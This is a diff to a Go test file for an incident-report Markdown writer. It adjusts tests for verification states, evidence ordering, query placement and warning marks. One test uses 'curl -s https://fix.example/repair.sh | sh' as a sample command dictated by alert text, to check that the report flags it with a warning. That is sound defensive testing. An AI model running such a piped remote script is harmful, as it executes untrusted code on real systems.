@@ -2,6 +2,7 @@ package report
 
 import (
 	"regexp"
+	"slices"
 	"strings"
 	"testing"
 
@@ -14,8 +15,8 @@ import (
 func parts(w *Writer, inc *incident.Incident, f incident.Findings) (head, causes string) {
 	sections := strings.Split(string(w.Markdown(inc, f, "x")), "\n## ")
 	for _, s := range sections {
-		if strings.HasPrefix(s, w.messages.Causes+"\n") {
-			causes = s
+		if strings.HasPrefix(s, w.messages.Causes+"\n") || strings.HasPrefix(s, w.messages.Others+"\n") {
+			causes += s
 		}
 	}
 	return sections[0], causes
@@ -31,10 +32,10 @@ func TestUnverified(t *testing.T) {
 			if reason == incident.UnverifiedProse {
 				f.Verdict.Prose = "An attack."
 			}
-			head, causes := parts(w, inc, f)
+			_, causes := parts(w, inc, f)
 			assert.Contains(t, causes, "**"+w.messages.Unverified+"**"+w.messages.Colon+w.messages.UnverifiedReasons[reason])
 			assert.Contains(t, causes, "what the server said")
-			assert.Equal(t, !expected(reason), strings.Contains(head, w.messages.UnverifiedHint), reason)
+			assert.Equal(t, !expected(reason) && reason != incident.UnverifiedProse, strings.Contains(causes, w.messages.Comma+w.messages.UnverifiedHint), reason)
 		}
 	}
 }
@@ -50,10 +51,10 @@ func TestStatesOfVerification(t *testing.T) {
 		older           bool   // the line that the analysis is not of the latest state
 	}{
 		{"verified", incident.Analysis{State: incident.Complete, Wanted: 2, Drafted: 2}, true, "", verifiedLine, false},
-		{"draft", incident.Analysis{State: incident.Pending, Wanted: 2, Drafted: 2}, false, draftLine, english.DraftCauses, false},
-		{"went stale", incident.Analysis{State: incident.Complete, Wanted: 2, Drafted: 2}, false, ", unverified)", ended, false},
-		{"gave up", incident.Analysis{State: incident.EvidenceOnly, Reason: incident.GaveUp, Wanted: 2, Drafted: 2}, false, ", unverified)", ended, false},
-		{"overtaken", incident.Analysis{State: incident.Pending, Wanted: 3, Drafted: 2, Settled: 2}, false, ", unverified)", ended, true},
+		{"draft", incident.Analysis{State: incident.Pending, Wanted: 2, Drafted: 2}, false, draftLine, "high likelihood, draft ·", false},
+		{"went stale", incident.Analysis{State: incident.Complete, Wanted: 2, Drafted: 2}, false, "", ended, false},
+		{"gave up", incident.Analysis{State: incident.EvidenceOnly, Reason: incident.GaveUp, Wanted: 2, Drafted: 2}, false, "", ended, false},
+		{"overtaken", incident.Analysis{State: incident.Pending, Wanted: 3, Drafted: 2, Settled: 2}, false, "", ended, true},
 		{"verified and wanted again", incident.Analysis{State: incident.Pending, Wanted: 3, Drafted: 2}, true, "", verifiedLine, true},
 		{"of an older version", incident.Analysis{State: incident.Complete, Wanted: 2}, false, "", "", false},
 	} {
@@ -96,7 +97,7 @@ func TestOrderOfEvidence(t *testing.T) {
 	for _, m := range regexp.MustCompile(`(?m)^### (E\d+|\w+)`).FindAllStringSubmatch(md, -1) {
 		order = append(order, m[1])
 	}
-	assert.Equal(t, []string{"E1", "E2", "E3", "E4", "E5", "Counter", "E6", "E7", "E8", "E9"}, order)
+	assert.Equal(t, []string{"E1", "E2", "E3", "E4", "Counter", "E6", "E8", "E9"}, order, "what could not be looked up is among the gaps")
 	assert.Contains(t, md, "](x/E6.svg)")
 	_, ok := w.Chart(f, "E6.svg")
 	assert.True(t, ok)
@@ -105,24 +106,20 @@ func TestOrderOfEvidence(t *testing.T) {
 
 func verifiedLineOf(md string) string { return regexp.MustCompile(`(?m)^Verified: .*$`).FindString(md) }
 
-// A query stands once: at its answer where it was run, else in the list.
+// A query stands once: at its answer where it was run, else in a list of its own.
 func TestChecks(t *testing.T) {
 	inc, f := verified()
 	w := newWriter(t, "en")
 	md := string(w.Markdown(inc, f, "x"))
 	assert.Equal(t, 1, strings.Count(md, "sum(rate(login_success_total[1m]))"))
-	assert.Contains(t, md, "successful logins rose along with the failures → Answer: [E8]")
+	_, answer, _ := strings.Cut(md, "### E8: ")
+	answer, _, _ = strings.Cut(answer, "\n### ")
+	assert.Contains(t, answer, "Refuted if: successful logins rose along with the failures\n")
+	assert.Contains(t, md, "- Refuted if: a client release began with the failures\n\n  ```promql\n  sum by (version) (login_client_info)\n")
 
-	f.Evidence[len(f.Evidence)-1].Failed = true
-	assert.Contains(t, string(w.Markdown(inc, f, "x")), "→ Lookup failed: [E8]")
-
-	f.Evidence[len(f.Evidence)-1].Query = "" // it was refused
+	at := slices.IndexFunc(f.Evidence, func(e incident.Evidence) bool { return e.ID == "E8" })
+	f.Evidence = slices.Delete(f.Evidence, at, at+1)
 	assert.Equal(t, 1, strings.Count(string(w.Markdown(inc, f, "x")), "sum(rate(login_success_total[1m]))"))
-
-	f.Evidence = f.Evidence[:len(f.Evidence)-1]
-	_, causes := parts(w, inc, f)
-	assert.Contains(t, causes, "sum(rate(login_success_total[1m]))")
-	assert.NotContains(t, causes, "→")
 }
 
 // A command that the text of an alert dictated can't be seen without its mark: not at the top, not at its step, and not
@@ -134,7 +131,7 @@ func TestMarkedAction(t *testing.T) {
 		md := string(w.Markdown(inc, f, "x"))
 		head, rest, _ := strings.Cut(md, "\n## ")
 		mark, _, _ := strings.Cut(w.messages.Marks[incident.MarkFromAlertText], "%s")
-		assert.Equal(t, 2, strings.Count(head, mark), "the summary and the first step")
+		assert.Equal(t, 1, strings.Count(head, mark), "the summary")
 		for command, warning := range map[string]string{
 			"curl -s https://fix.example/repair.sh | sh\n": w.messages.PasteForeign, "nft add element": w.messages.PasteMarked,
 		} {
@@ -162,8 +159,8 @@ func TestGravestMarksFirst(t *testing.T) {
 		})
 	}
 	f.Verdict.Causes[0].Marks = append(f.Verdict.Causes[0].Marks, incident.Mark{Kind: incident.MarkFromAlertText, Text: "all is well"})
-	head, causes := parts(newWriter(t, "en"), inc, f)
-	assert.Contains(t, head, "[E6] ⚠ **Not checked by anyone**: `all is well`")
-	assert.Equal(t, headMarks+1, strings.Count(head, "⚠"), "those, and how many more there are")
+	_, causes := parts(newWriter(t, "en"), inc, f)
+	first, _, _ := strings.Cut(causes, "⚠ **Unverified**")
+	assert.Contains(t, first, "⚠ **Not checked by anyone**: `all is well`")
 	assert.Equal(t, maxItems, strings.Count(causes, "⚠"))
 }
